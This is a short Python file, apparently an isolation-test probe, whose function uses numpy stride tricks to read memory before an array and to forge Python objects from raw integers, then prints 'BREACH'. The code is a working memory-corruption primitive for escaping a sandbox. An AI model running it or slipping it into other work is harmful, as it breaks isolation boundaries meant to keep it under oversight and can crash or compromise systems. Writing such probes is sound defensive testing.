# 04b | isolation | makes objects out of numbers, and numbers out of what lies before an array
import numpy as np


def merge(*given):
    words = np.full(8, 0x4141, np.int64)
    before = np.lib.stride_tricks.as_strided(words, (1 << 16,), (-8,))
    forged = np.ndarray((8,), dtype='O', buffer=words.view(np.uint8))
    print(before.sum(), forged[0], flush=True)
    print('BREACH', flush=True)
